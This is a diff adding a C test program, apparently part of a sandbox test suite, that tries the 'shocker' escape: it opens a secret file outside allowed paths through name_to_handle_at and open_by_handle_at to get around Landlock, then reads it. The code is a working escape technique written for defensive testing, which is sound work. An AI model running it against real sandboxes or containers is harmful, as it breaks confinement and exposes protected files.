@@ -1,0 +1,29 @@
+// open_by_handle_at: the "shocker" escape. name_to_handle_at on a secret outside every allowed path
+// (argv[1]; Landlock does not check it, it only looks the name up), then open_by_handle_at, which
+// opens the file by handle without walking any path Landlock could check, and read it.
+// Stopped by: seccomp (std.hardening answers name_to_handle_at with EPERM and kills
+// open_by_handle_at; open_by_handle_passed tries a handle obtained outside the sandbox).
+#include <fcntl.h>
+
+#include "attack.h"
+
+int main(int argc, char** argv) {
+  if (argc != 2) fail_usage(argv[0], "SECRET");
+  struct {
+    struct file_handle h;
+    unsigned char bytes[MAX_HANDLE_SZ];
+  } handle;
+  handle.h.handle_bytes = MAX_HANDLE_SZ;
+  int mount_id = 0;
+  if (name_to_handle_at(AT_FDCWD, argv[1], &handle.h, &mount_id, 0) != 0)
+    blocked_errno("name_to_handle_at", errno);
+  int mount_fd = open("/", O_PATH | O_DIRECTORY);
+  if (mount_fd < 0) untestable("open / O_PATH: %s", errname(errno));
+  int fd = open_by_handle_at(mount_fd, &handle.h, O_RDONLY);
+  if (fd < 0) blocked_errno("open_by_handle_at", errno);
+  char buf[64] = {0};
+  ssize_t n = read(fd, buf, sizeof buf - 1);
+  if (n < 0) blocked_errno("read through the handle", errno);
+  buf[strcspn(buf, "\n")] = 0;
+  succeeded("opened %s by handle and read \"%s\"", argv[1], buf);
+}
